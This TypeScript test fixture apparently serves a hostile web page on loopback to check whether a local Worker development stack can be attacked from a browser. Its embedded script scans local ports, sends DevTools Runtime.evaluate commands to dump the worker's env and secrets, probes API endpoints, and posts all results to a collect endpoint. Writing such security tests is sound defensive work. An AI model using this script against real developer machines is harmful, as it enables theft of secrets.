// A hostile web site on its own loopback port: its page scans the stack's ports with WebSockets and
// fetch, tries the DevTools protocol on every socket that opens, and posts back all it could read.
import type { Server } from 'node:http';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

/** What the page is told to attack: every port the stack listens on, and a run id to aim at. */
export type HostileTargets = { ports: number[]; workerPort: number; runId: string };

/** What the page posted back: one line per thing it tried, with whatever it could read of the answer. */
export type HostileReport = { origin: string; tries: { what: string; outcome: string; read: string }[] };

// Plain browser JavaScript (no TypeScript): it runs in the page, not in Node.
const PAGE_SCRIPT = String.raw`
const targets = JSON.parse(document.getElementById('targets').textContent);
const tries = [];
const note = (what, outcome, read) => tries.push({ what, outcome, read: String(read ?? '').slice(0, 4000) });
const paths = ['/', '/core:user:bandit-runner', '/json', '/cdn-cgi/live-reload', '/api/runs/' + targets.runId + '/ws', '/v1/advance'];
// (test/e2e/ports.test.ts tries more subprotocols and origins with raw sockets; a browser adds its own rules.)
const protocols = [[], ['WRANGLER_PROXYWORKER_LIVE_RELOAD_PROTOCOL']];
// What the issue's attacker ran on the inspector it found: the worker's env, secrets and all.
// (With nodejs_compat, process.env holds the same text bindings, secrets included, without an import.)
const expressions = ['import("cloudflare:workers").then((m) => JSON.stringify(m.env))', 'JSON.stringify(globalThis.process?.env ?? null)'];
const evaluate = (ws, contextId) => expressions.forEach((expression, i) =>
  ws.send(JSON.stringify({ id: 10 + i, method: 'Runtime.evaluate', params: { expression, awaitPromise: true, returnByValue: true, ...(contextId ? { contextId } : {}) } })));

function tryWebSocket(url, protocol) {
  return new Promise((resolve) => {
    let read = '';
    let opened = false;
    let ws;
    try { ws = new WebSocket(url, protocol); } catch (err) { note('ws ' + url, 'threw ' + err, ''); return resolve(); }
    let finished = false;
    const finish = (outcome) => { if (finished) return; finished = true; clearTimeout(timer); try { ws.close(); } catch {} note('ws ' + url + ' ' + protocol.join(','), outcome, read); resolve(); };
    let timer = setTimeout(() => finish('no answer'), 2000);
    ws.onopen = () => { opened = true; clearTimeout(timer); timer = setTimeout(() => finish('opened'), 4000); ws.send(JSON.stringify({ id: 1, method: 'Runtime.enable' })); evaluate(ws); };
    ws.onmessage = (m) => {
      read += String(m.data) + '\n';
      // A DevTools target names its execution context once Runtime is enabled: evaluate there.
      const context = /"executionContextCreated".*?"id":(\d+)/.exec(String(m.data));
      if (context) {
        evaluate(ws, Number(context[1]));
        // The isolate runs inspector commands when it runs: give it a request to run.
        for (let i = 0; i < 3; i++) setTimeout(() => fetch('http://127.0.0.1:' + targets.workerPort + '/api/health', { mode: 'no-cors' }).catch(() => {}), 200 * i);
      }
    };
    ws.onerror = () => { if (!opened) finish('refused'); };
    ws.onclose = () => finish(opened ? 'opened, then closed' : 'refused');
  });
}

async function tryFetch(url, init) {
  try {
    const response = await fetch(url, init);
    note('fetch ' + (init?.mode ?? 'cors') + ' ' + url, 'status ' + response.status + (response.type === 'opaque' ? ' (opaque)' : ''), await response.text());
  } catch (err) {
    note('fetch ' + (init?.mode ?? 'cors') + ' ' + url, 'failed: ' + err, '');
  }
}

async function attack() {
  // One socket at a time per port (an inspector takes one session per target), the ports in parallel.
  await Promise.all(targets.ports.map(async (port) => {
    for (const path of paths) for (const p of protocols) await tryWebSocket('ws://127.0.0.1:' + port + path, p);
    for (const path of ['/json/list', '/json/version', '/api/health', '/health']) await tryFetch('http://127.0.0.1:' + port + path);
  }));
  const api = 'http://127.0.0.1:' + targets.workerPort + '/api';
  for (const path of ['/runs', '/runs/' + targets.runId, '/runs/' + targets.runId + '/events', '/models', '/openapi.json']) {
    await tryFetch(api + path);
    await tryFetch(api + path, { credentials: 'include' });
    await tryFetch(api + path, { mode: 'no-cors' });
  }
  await tryFetch(api + '/runs', { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: '{"maxRetries":1}' });
  await fetch('/collect', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ origin: location.origin, tries }) });
  document.title = 'done';
}
attack();
`;

/** Serves the page at / and keeps what it posts to /collect. */
export class HostileSite {
  readonly reports: HostileReport[] = [];
  private readonly server: Server;
  private port = 0;

  constructor(targets: HostileTargets) {
    const page = `<!doctype html><title>nothing to see</title><script type="application/json" id="targets">${JSON.stringify(targets)}</script><script>${PAGE_SCRIPT}</script>`;
    this.server = createServer((req, res) => {
      if (req.method === 'POST' && req.url === '/collect') {
        let body = '';
        req.on('data', (chunk: Buffer) => (body += chunk.toString()));
        req.on('end', () => {
          this.reports.push(JSON.parse(body) as HostileReport);
          res.end('thanks');
        });
        return;
      }
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(page);
    });
  }

  /** Listens on a free loopback port and returns it. */
  listen(): Promise<number> {
    return new Promise((resolve) =>
      this.server.listen(0, '127.0.0.1', () => {
        this.port = (this.server.address() as AddressInfo).port;
        resolve(this.port);
      }),
    );
  }

  close(): Promise<void> {
    return new Promise((resolve) => this.server.close(() => resolve()));
  }
}
